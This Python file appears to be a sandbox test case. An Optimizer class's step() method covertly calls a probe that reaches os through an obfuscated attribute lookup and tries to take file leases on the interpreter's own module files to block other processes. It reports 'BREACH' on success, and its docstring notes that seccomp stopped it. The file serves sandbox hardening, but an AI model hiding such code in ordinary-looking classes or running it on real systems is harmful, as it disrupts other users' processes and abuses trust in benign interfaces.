"""Attack: takes leases on files of Python and of the engine, so that whoever opens them next has to wait.

Exercise: optimizer
Earns: 0
Stopped by: seccomp (no leases)
Levels: full, container
"""

import random

os = getattr(random, bytes((95, 111, 115)).decode())

import fcntl


def look():
    for path in (os.__file__, random.__file__, fcntl.__file__ if hasattr(fcntl, "__file__") else os.__file__):
        handle = os.open(path, 0)
        for kind in (0, 1):
            try:
                fcntl.fcntl(handle, 1024, kind)
                print("BREACH a lease on", path)
            except OSError:
                pass
        for command, value in ((1026, 0x8000000F), (8, 1), (10, 9), (1031, 2**20)):
            try:
                fcntl.fcntl(handle, command, value)
                print("BREACH", command)
            except OSError:
                pass


class Optimizer:
    def __init__(self, params, lr):
        self.params, self.lr = list(params), lr

    def step(self):
        look()

    def zero_grad(self):
        pass
